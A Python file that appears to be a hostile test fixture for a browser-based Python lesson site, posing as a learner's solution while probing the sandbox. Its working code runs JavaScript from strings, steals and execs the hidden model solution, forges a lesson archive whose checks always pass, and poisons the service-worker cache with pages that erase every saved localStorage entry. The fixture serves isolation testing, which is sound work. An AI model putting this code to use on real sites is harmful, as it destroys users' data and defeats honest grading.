# A hostile solution aimed at the site rather than the grader (issue 26): every function returns
# zeros, while the file tries, from wherever the page runs learner code,
#  - to read the lesson's model solution (model-solution.py beside the page) and answer with it;
#  - to put into the service worker's cache a lesson.zip whose checks all pass, and a lesson page
#    that deletes every lesson's saved code, on a timer left running after the Run;
#  - to open IndexedDB and the origin's file system, and to start a fresh worker;
#  - to run JavaScript made from text (eval, Function), which is also the only way Python has to
#    a dynamic import() of a module from anywhere (a data: URL here).
# What it reached is printed (the test reads it from the report's output): REACHED, what of the
# site's origin; CODE FROM TEXT, which of eval and Function ran.
import glob
import io
import os
import zipfile

import numpy as np

try:
    import js
except ImportError:  # CPython: nothing of the page to reach
    js = None


def gelu(x):
    return np.zeros_like(np.asarray(x, dtype=float))


def shard_mlp(A, B, n):
    return [(np.zeros((1, 1)), np.zeros((1, 1))) for _ in range(n)]


def tp_mlp(X, shards):
    X = np.asarray(X, dtype=float)
    return np.zeros(X.shape[:-1] + (np.asarray(shards[0][1]).shape[1],))


def passing_lesson_zip():
    """The lesson unpacked in this worker, zipped again with every check replaced by one that passes."""
    toml = (glob.glob("/home/pyodide/lessons/*/lesson.toml") or [None])[0]
    if toml is None:
        return b""
    folder = os.path.dirname(toml)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for root, _, files in os.walk(folder):
            for name in files:
                path = os.path.join(root, name)
                arc = os.path.relpath(path, folder)
                if "__pycache__" in arc or arc.endswith(".pyc"):
                    continue
                if arc.startswith("checks/") and name.startswith("test_") and name.endswith(".py"):
                    z.writestr(arc, 'def test_fine():\n    """Everything is fine"""\n')
                else:
                    z.write(path, arc)
    return out.getvalue()


REACHED = []
CODE_FROM_TEXT = []
if js is not None:
    try:
        if js.eval("1 + 1") == 2:
            CODE_FROM_TEXT.append("eval")
            # A module from a data: URL, run when it has loaded (after this call returns).
            js.eval("import('data:text/javascript,self.__imported = true')")
    except Exception:
        pass
    try:
        if js.Function.new("return 2")() == 2:
            CODE_FROM_TEXT.append("Function")
    except Exception:
        pass
    print("CODE FROM TEXT:", " ".join(CODE_FROM_TEXT) or "nothing")
    root = js.URL.new("../", js.self.location.href).href
    model = root + "lessons/tp-mlp/model-solution.py"
    # The model solution, synchronously: XHR, then Pyodide's own helper (XHR underneath).
    stolen = None
    try:
        xhr = js.XMLHttpRequest.new()
        xhr.open("GET", model, False)
        xhr.send()
        if xhr.status == 200:
            stolen = str(xhr.responseText)
            REACHED.append("xhr")
    except Exception:
        pass
    try:
        from pyodide.http import open_url
        stolen = stolen or open_url(model).read()
        REACHED.append("open_url")
    except Exception:
        pass
    try:
        js.importScripts(model)
        REACHED.append("importScripts")
    except Exception as e:
        if "SyntaxError" in str(e):  # fetched and parsed: the script loader reached the file
            REACHED.append("importScripts")
    # The cache and the pages, from JavaScript, now and every 200 ms until this worker ends.
    forged = passing_lesson_zip()
    js.__take_over_zip = js.Uint8Array.new(len(forged))
    js.__take_over_zip.assign(forged)
    for name in ("caches", "fetch", "indexedDB", "Worker", "BroadcastChannel"):
        if hasattr(js, name):  # what the worker's global scope still holds, seen from Python
            REACHED.append(name)
    if CODE_FROM_TEXT:  # JavaScript of its own, where it can run
        reached_js = js.eval(r"""(() => {
      const reached = [];
      const page = "<!doctype html><title>taken over</title><script>" +
        "for (const key of Object.keys(localStorage)) localStorage.removeItem(key);" +
        "document.title = 'taken over';<\/script>";
      const poison = async () => {
        for (const name of await caches.keys()) {
          const cache = await caches.open(name);
          for (const request of await cache.keys()) {
            if (request.url.endsWith("/lesson.zip")) {
              await cache.put(request, new Response(self.__take_over_zip, {headers: {"Content-Type": "application/zip"}}));
            } else if (/\/lessons\/[^/]+\/(index\.html)?$/.test(request.url) || request.url.endsWith("/index.html")) {
              await cache.put(request, new Response(page, {headers: {"Content-Type": "text/html"}}));
            }
          }
        }
      };
      try { if (typeof caches !== "undefined") { reached.push("caches"); poison(); setInterval(poison, 200); } } catch (e) {}
      try { if (typeof fetch !== "undefined") { reached.push("fetch"); fetch(self.location.href); } } catch (e) {}
      try { indexedDB.open("taken-over"); reached.push("indexedDB"); } catch (e) {}
      try { if (navigator.storage) { navigator.storage.getDirectory(); reached.push("navigator.storage"); } } catch (e) {}
      try { new Worker("data:text/javascript,1"); reached.push("Worker"); } catch (e) {}
      try { new BroadcastChannel("taken-over").postMessage("hi"); reached.push("BroadcastChannel"); } catch (e) {}
      return reached.join(" ");
    })()""")
        REACHED += str(reached_js).split()
    print("REACHED:", " ".join(REACHED) or "nothing")
    if stolen:
        exec(stolen, globals())
